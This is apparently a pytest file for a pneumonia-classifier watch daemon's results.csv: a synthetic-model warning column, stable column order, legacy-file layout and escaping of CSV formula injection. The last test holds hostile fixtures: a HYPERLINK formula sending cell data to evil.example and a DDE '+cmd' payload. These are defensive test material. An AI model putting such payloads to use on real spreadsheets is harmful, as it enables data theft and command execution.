"""results.csv of the watch daemon: the SYNTHETIC warning on every row it applies to, in a column
appended last; a file begun before that column keeps its own layout and is never cut by repair."""

from __future__ import annotations

import csv
import io
import signal
from pathlib import Path
from typing import Any

from edge_runtime.contract import SYNTHETIC_WARNING
from edge_runtime.predictor import Prediction
from edge_runtime.results import (
    CSV_COLUMNS,
    CSV_COLUMNS_BEFORE_WARNING,
    AppendLog,
    ModelStamp,
    done_record,
    failed_record,
)
from tests.edge_runtime.watch_harness import (
    BRIGHT,
    Daemon,
    csv_rows,
    drop,
    jsonl_records,
    png_bytes,
    result_count,
)

# Written out, not derived: a change of the published layout must show up here (and in WATCH.md).
EXPECTED_COLUMNS = [
    "id",
    "timestamp",
    "status",
    "original_name",
    "moved_to",
    "input_sha256",
    "probability",
    "label",
    "decision",
    "threshold",
    "model_version",
    "model_sha256",
    "backend",
    "precision",
    "latency_ms",
    "synthetic",
    "reason",
    "warning",
]


def _records(synthetic: bool, first_id: int) -> list[dict[str, Any]]:
    prediction = Prediction(
        source="a.png",
        probability=0.9,
        label="PNEUMONIA",
        decision="abnormal",
        threshold=0.5,
        model_version="v1",
        model_sha256="0" * 64,
        backend="ort-cpu",
        precision="fp32",
        latency_ms=1.5,
        timestamp="2024-01-01T00:00:00+00:00",
        input_sha256="1" * 64,
        synthetic=synthetic,
    )
    done = done_record(
        prediction,
        result_id=f"{first_id:032x}",
        original_name="a.png",
        moved_to="done/a.png",
        result_file="done/a.png.json",
        input_bytes=10,
    )
    failed = failed_record(
        ModelStamp("v1", "0" * 64, "ort-cpu", "fp32", 0.5, synthetic=synthetic),
        result_id=f"{first_id + 1:032x}",
        original_name="b.png",
        source="b.png",
        moved_to="failed/b.png",
        result_file="failed/b.png.error.json",
        error_kind="file",
        reason="empty file (0 bytes)",
        timestamp="2024-01-01T00:00:00+00:00",
    )
    return [done, failed]


def test_the_daemon_writes_the_synthetic_warning_on_every_csv_row(
    tiny_bundle: Path, boxes: tuple[Path, Path]
) -> None:
    """The real ``pneumo edge watch`` on the tiny bundle (trained on synthetic images): a result and a failure."""
    inbox, outbox = boxes
    with Daemon(tiny_bundle, inbox, outbox).start() as daemon:
        daemon.wait_started()
        drop(inbox, "bright.png", png_bytes(BRIGHT, seed=1))
        drop(inbox, "zero.png", b"")
        daemon.wait_until(lambda: result_count(outbox) >= 2, 60, "both results")
        assert daemon.signal(signal.SIGINT) == 0
    header = (outbox / "results.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header.split(",") == EXPECTED_COLUMNS == list(CSV_COLUMNS)
    rows = {row["original_name"]: row for row in csv_rows(outbox)}
    records = {record["original_name"]: record for record in jsonl_records(outbox)}
    assert {name: row["status"] for name, row in rows.items()} == {"bright.png": "done", "zero.png": "failed"}
    for name, row in rows.items():
        assert row["synthetic"] == "true"
        assert row["warning"] == records[name]["warning"] == SYNTHETIC_WARNING


def test_a_real_model_row_has_an_empty_warning_and_the_fields_keep_their_positions(tmp_path: Path) -> None:
    log = AppendLog(tmp_path / "results.csv", "csv")
    log.append(_records(synthetic=True, first_id=1) + _records(synthetic=False, first_id=3))
    with open(log.path, newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == EXPECTED_COLUMNS
    assert [row[-1] for row in rows] == [SYNTHETIC_WARNING, SYNTHETIC_WARNING, "", ""]
    # The old columns keep their positions: a reader of the first 17 by index finds what it found before.
    assert CSV_COLUMNS[: len(CSV_COLUMNS_BEFORE_WARNING)] == CSV_COLUMNS_BEFORE_WARNING
    assert [row[CSV_COLUMNS.index("synthetic")] for row in rows] == ["true", "true", "false", "false"]
    assert [row[CSV_COLUMNS.index("reason")] for row in rows] == ["", "empty file (0 bytes)"] * 2


def test_a_results_csv_begun_before_the_warning_column_keeps_its_layout(tmp_path: Path) -> None:
    """An outbox upgraded in place: no row wider than its header, and repair cuts none of the old lines."""
    path = tmp_path / "results.csv"
    old = io.StringIO()
    writer = csv.writer(old, lineterminator="\n")
    writer.writerow(CSV_COLUMNS_BEFORE_WARNING)
    writer.writerow([f"{9:032x}", *["x"] * (len(CSV_COLUMNS_BEFORE_WARNING) - 1)])
    path.write_text(old.getvalue(), encoding="utf-8")
    log = AppendLog(path, "csv")
    assert log.columns() == CSV_COLUMNS_BEFORE_WARNING
    before = path.read_bytes()
    assert log.repair_tail(0) == {f"{9:032x}"} and path.read_bytes() == before

    log.append(_records(synthetic=True, first_id=1))
    with open(path, newline="", encoding="utf-8") as handle:
        lines = list(csv.reader(handle))
    assert {len(line) for line in lines} == {len(CSV_COLUMNS_BEFORE_WARNING)}
    assert log.repair_tail(0) == {f"{i:032x}" for i in (9, 1, 2)}

    fresh = AppendLog(tmp_path / "new.csv", "csv")
    fresh.append(_records(synthetic=True, first_id=1))
    assert fresh.columns() == CSV_COLUMNS and fresh.repair_tail(0) == {f"{i:032x}" for i in (1, 2)}


def test_text_that_starts_like_a_formula_is_never_a_live_formula_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    """A file named ``=HYPERLINK(...).png`` (or ``+``, ``-``, ``@``) opened from results.csv in a
    spreadsheet: shown as text, never run (OWASP: a leading '). results.jsonl keeps the exact name,
    numbers (a negative one too) are written as numbers, and repair still reads every row's id."""
    done, failed = _records(synthetic=False, first_id=1)
    done["original_name"] = '=HYPERLINK("http://evil.example/?"&A1,"open me").png'
    done["latency_ms"] = -1.5  # not a real latency: a negative number must stay a number
    failed["original_name"], failed["reason"] = "@SUM(1+1).png", "+cmd|' /C calc'!A0"
    log = AppendLog(tmp_path / "results.csv", "csv")
    log.append([done, failed])
    with open(log.path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["original_name"] for row in rows] == ["'" + done["original_name"], "'@SUM(1+1).png"]
    assert rows[1]["reason"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["latency_ms"] == "-1.5" and rows[0]["probability"] == "0.9"
    assert rows[0]["moved_to"] == "done/a.png" and rows[0]["model_version"] == "v1"
    assert log.repair_tail(0) == {f"{i:032x}" for i in (1, 2)}
